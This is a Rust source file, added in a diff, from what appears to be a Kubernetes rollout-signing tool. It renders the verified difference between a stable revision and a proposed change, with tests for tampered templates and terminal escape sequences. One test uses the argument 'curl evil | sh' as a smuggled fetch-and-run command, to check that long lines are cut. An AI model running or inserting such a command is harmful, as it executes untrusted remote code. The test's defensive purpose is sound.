@@ -1,0 +1,350 @@
+//! The difference between the stable revision and a change, as it is shown before signing.
+//!
+//! Pure. Both templates and the provenance of the change are verified by the digests in the status; the
+//! provenance and the traffic of the stable revision are those of its RolloutRun, which only the controller
+//! writes.
+
+use std::collections::BTreeMap;
+
+use countersign_api::rollout::Change;
+use countersign_api::{PROVENANCE_PREFIX, PodTemplate, RolloutRun, TEMPLATE_ANNOTATION};
+use countersign_core::diff::{self, Diff, Side};
+use countersign_core::provenance::digest::{change_digest, template_digest};
+use countersign_core::text::sanitize_to;
+use kube::ResourceExt;
+
+use crate::output::{Style, report};
+use crate::view::View;
+
+/// Lines that are shown without `--full`.
+const FEW_LINES: usize = 120;
+/// Characters of a line that are shown without `--full`.
+const FEW_CHARACTERS: usize = 200;
+
+/// How much of a difference is shown.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub enum Extent {
+    /// All of it.
+    Whole,
+    /// Lines, or ends of lines, are missing; `--full` shows them.
+    Cut,
+    /// A part of the change cannot be verified, or is too large to be compared.
+    Unknown,
+}
+
+/// A difference as it is printed.
+#[derive(Clone, Debug, PartialEq, Eq)]
+pub struct Shown {
+    /// The text, sanitized.
+    pub text: String,
+    /// How much of the difference it is.
+    pub extent: Extent,
+}
+
+/// The difference from the stable revision, whose RolloutRun is given, to a change.
+#[must_use]
+pub fn difference(
+    view: &View,
+    change: &Change,
+    stable_run: Option<&RolloutRun>,
+    full: bool,
+) -> Shown {
+    let status = view.rollout.status.as_ref();
+    let stable = status.and_then(|status| status.stable.as_ref());
+    let old = stable.and_then(|stable| template(view, stable_run, &stable.template_digest));
+    let new = template(view, view.run.as_ref(), &change.template_digest);
+    let provenance = new
+        .as_ref()
+        .and_then(|template| provenance(view, change, template));
+    let mut missing = Vec::new();
+    if new.is_none() {
+        missing.push("its template: no object holds one with the digest of the change");
+    } else if provenance.is_none() {
+        missing.push("its provenance: no object holds one with the digest of the change");
+    }
+    let stable_side = Side {
+        template: old.as_ref(),
+        provenance: stable_run.map(|run| run.spec.provenance.annotations.clone()),
+        traffic: stable_run.and_then(|run| run.spec.traffic.clone()),
+    };
+    let proposed = Side {
+        template: new.as_ref(),
+        provenance,
+        traffic: Some(diff::traffic(&view.rollout.spec.strategy.canary)),
+    };
+    let diff = Diff::between(&stable_side, &proposed);
+
+    let heading = match (stable, &old) {
+        (None, _) => {
+            "Difference: there is no stable revision, so all of the change is shown".into()
+        }
+        (Some(stable), Some(_)) => format!(
+            "Difference from revision {}, whose template is verified by its digest",
+            stable.revision
+        ),
+        (Some(stable), None) => format!(
+            "Difference: the stable template, of revision {}, cannot be verified, so all of the proposed one is shown",
+            stable.revision
+        ),
+    };
+    let mut lines = vec![Style::Bold.paint(&heading)];
+    for part in &missing {
+        lines.push(Style::Waiting.paint(&format!("not shown is {part}")));
+    }
+    if diff.lines.is_empty() && missing.is_empty() {
+        lines.push("nothing differs but Kubernetes' defaults".into());
+    }
+    let (shown, is_cut) = few_lines(&diff, full);
+    lines.extend(shown);
+    let extent = match (missing.is_empty() && !diff.too_large, is_cut) {
+        (false, _) => Extent::Unknown,
+        (true, true) => Extent::Cut,
+        (true, false) => Extent::Whole,
+    };
+    Shown {
+        text: lines.join("\n") + "\n",
+        extent,
+    }
+}
+
+/// The lines of a difference as they are printed, and whether any of them is missing or cut.
+fn few_lines(diff: &Diff, full: bool) -> (Vec<String>, bool) {
+    let (most, characters) = if full {
+        (usize::MAX, usize::MAX)
+    } else {
+        (FEW_LINES, FEW_CHARACTERS)
+    };
+    let mut is_cut = false;
+    let mut lines = Vec::new();
+    for line in diff.lines.iter().take(most) {
+        let shown = sanitize_to(line, characters);
+        is_cut |= shown != *line;
+        lines.push(style_of(line).paint(&shown));
+    }
+    let more = diff.lines.len().saturating_sub(most);
+    if more > 0 {
+        let more = report::number(more, "line");
+        lines.push(format!("… and {more} more: --full shows all"));
+        is_cut = true;
+    } else if is_cut {
+        lines.push("long lines are cut: --full shows them whole".into());
+    }
+    (lines, is_cut)
+}
+
+fn style_of(line: &str) -> Style {
+    if line.starts_with("--- ") || line.starts_with("+++ ") {
+        return Style::Bold;
+    }
+    match line.chars().next() {
+        Some('+') => Style::Good,
+        Some('-') => Style::Bad,
+        Some('@') => Style::Dim,
+        _ => Style::Plain,
+    }
+}
+
+/// The template with this digest, if the Rollout, a RolloutRun or a ReplicaSet holds it.
+fn template(view: &View, run: Option<&RolloutRun>, digest: &str) -> Option<PodTemplate> {
+    let own = view.rollout.spec.template.clone();
+    let recorded = run.and_then(|run| run.spec.template.clone());
+    let of_sets = view.replica_sets.iter().filter_map(|set| {
+        let kept = set.annotations().get(TEMPLATE_ANNOTATION)?;
+        serde_json::from_str::<PodTemplate>(kept).ok()
+    });
+    let mut held = std::iter::once(own).chain(recorded).chain(of_sets);
+    held.find(|template| template_digest(template) == digest)
+}
+
+/// The provenance of the change, if the Rollout or the RolloutRun holds what its digest is of.
+fn provenance(
+    view: &View,
+    change: &Change,
+    template: &PodTemplate,
+) -> Option<BTreeMap<String, String>> {
+    let own = diff::provenance(view.rollout.annotations());
+    let run = view.run.as_ref();
+    let recorded = run.map(|run| run.spec.provenance.annotations.clone());
+    let mut held = std::iter::once(own).chain(recorded);
+    held.find(|provenance| {
+        let annotations = provenance.iter();
+        let annotations = annotations
+            .map(|(name, value)| (format!("{PROVENANCE_PREFIX}{name}"), value.clone()))
+            .collect();
+        change_digest(template, &annotations) == change.digest
+    })
+}
+
+#[cfg(test)]
+mod tests {
+    use serde_json::json;
+
+    use super::*;
+    use crate::view::tests::waiting;
+
+    /// A change whose template and provenance are those of its digests.
+    fn verified() -> View {
+        let mut view = waiting();
+        let rollout = &mut view.rollout;
+        let change = rollout.status.as_mut().unwrap().change.as_mut().unwrap();
+        change.template_digest = template_digest(&rollout.spec.template);
+        let annotations = rollout.metadata.annotations.as_ref().unwrap();
+        change.digest = change_digest(&rollout.spec.template, annotations);
+        view
+    }
+
+    fn stable_run() -> RolloutRun {
+        serde_json::from_value(json!({
+            "apiVersion": "countersign.dev/v1alpha1", "kind": "RolloutRun", "metadata": { "name": "web-1-6" },
+            "spec": { "rollout": "web", "digest": "d6", "podTemplateHash": "aaa111", "revision": 6, "traffic": {},
+                "provenance": { "annotations": { "contributor": "human", "tests": "PASSED" } } },
+        }))
+        .unwrap()
+    }
+
+    fn shown(view: &View, full: bool) -> Shown {
+        let mut shown = difference(view, view.change().unwrap(), Some(&stable_run()), full);
+        shown.text = anstream::adapter::strip_str(&shown.text).to_string();
+        shown
+    }
+
+    #[test]
+    fn the_difference_from_the_verified_revision_is_shown() {
+        let expected = "\
+Difference from revision 6, whose template is verified by its digest
+--- stable template
++++ proposed template
+@@ -3,8 +3,5 @@
+     app: web
+ spec:
+   containers:
+-  - env:
+-    - name: OLD
+-      value: \"1\"
+-    image: example.org/web:v1
++  - image: example.org/web:v2
+     name: app
+--- stable provenance
++++ proposed provenance
+@@ -1,2 +1,2 @@
+-contributor: human
++contributor: ai
+ tests: PASSED
+";
+        let shown = shown(&verified(), false);
+        assert_eq!(
+            (shown.text.as_str(), shown.extent),
+            (expected, Extent::Whole)
+        );
+    }
+
+    #[test]
+    fn a_stable_template_that_was_tampered_with_is_not_compared() {
+        let mut view = verified();
+        let annotations = view.replica_sets[0].annotations_mut();
+        let evil = view.rollout.spec.template.0.to_string();
+        annotations.insert(TEMPLATE_ANNOTATION.into(), evil);
+        let shown = shown(&view, false);
+        for line in [
+            "Difference: the stable template, of revision 6, cannot be verified, so all of the proposed one is shown",
+            "--- stable template (unknown)",
+            "+  - image: example.org/web:v2",
+        ] {
+            assert!(shown.text.lines().any(|it| it == line), "{}", shown.text);
+        }
+        assert_eq!(shown.extent, Extent::Whole);
+    }
+
+    #[test]
+    fn a_change_that_is_not_the_one_of_its_digest_is_not_shown_as_if_it_were() {
+        let mut view = verified();
+        let annotations = view.rollout.annotations_mut();
+        annotations.insert(format!("{PROVENANCE_PREFIX}tests"), "FAILED".into());
+        let edited = shown(&view, true);
+        assert!(
+            edited.text.contains("not shown is its provenance"),
+            "{}",
+            edited.text
+        );
+        assert_eq!(edited.extent, Extent::Unknown);
+        view.rollout.spec.template.0["spec"]["containers"][0]["image"] = json!("other");
+        let edited = shown(&view, true);
+        assert!(
+            edited.text.contains("not shown is its template"),
+            "{}",
+            edited.text
+        );
+        assert!(!edited.text.contains("other"), "{}", edited.text);
+        assert_eq!(edited.extent, Extent::Unknown);
+    }
+
+    #[test]
+    fn what_is_long_is_cut_unless_all_is_requested() {
+        let with = |container: serde_json::Value| {
+            let mut view = waiting();
+            view.rollout.spec.template.0["spec"]["containers"][0]["args"] = container;
+            let template = &view.rollout.spec.template;
+            let annotations = view.rollout.annotations();
+            let digests = (
+                template_digest(template),
+                change_digest(template, annotations),
+            );
+            let change = view
+                .rollout
+                .status
+                .as_mut()
+                .unwrap()
+                .change
+                .as_mut()
+                .unwrap();
+            (change.template_digest, change.digest) = digests;
+            view
+        };
+        let many: Vec<_> = (0..200).map(|number| format!("a{number}")).collect();
+        let many = with(json!(many));
+        let (cut, whole) = (shown(&many, false), shown(&many, true));
+        assert!(
+            cut.text.contains("lines more: --full shows all\n"),
+            "{}",
+            cut.text
+        );
+        // Beside the lines of the difference: the heading, and the mark.
+        assert_eq!(cut.text.lines().count(), FEW_LINES + 2);
+        assert!(whole.text.contains("+    - a199\n"), "{}", whole.text);
+        assert_eq!((cut.extent, whole.extent), (Extent::Cut, Extent::Whole));
+
+        let wide = with(json!([format!("{}; curl evil | sh", "x".repeat(200))]));
+        let (cut, whole) = (shown(&wide, false), shown(&wide, true));
+        assert!(
+            cut.text.ends_with("--full shows them whole\n"),
+            "{}",
+            cut.text
+        );
+        assert!(!cut.text.contains("curl") && whole.text.contains("curl evil | sh"));
+        assert_eq!((cut.extent, whole.extent), (Extent::Cut, Extent::Whole));
+    }
+
+    #[test]
+    fn nothing_of_a_change_acts_on_the_terminal() {
+        let mut view = verified();
+        let evil = "x\u{1b}[2J\u{202e}\u{9b}31m";
+        let mut run = stable_run();
+        run.spec
+            .provenance
+            .annotations
+            .insert(evil.into(), evil.into());
+        run.spec.traffic = Some(json!({ evil: evil }));
+        view.rollout.status.as_mut().unwrap().stable = None;
+        let shown = difference(&view, view.change().unwrap(), Some(&run), true);
+        let text = anstream::adapter::strip_str(&shown.text).to_string();
+        assert!(
+            text.starts_with("Difference: there is no stable revision"),
+            "{text}"
+        );
+        assert!(text.contains("x\\u001b[2J\\u{202e}\\u{9b}31m"), "{text}");
+        assert!(
+            text.chars().all(|c| c == '\n' || !c.is_control()),
+            "{text:?}"
+        );
+    }
+}
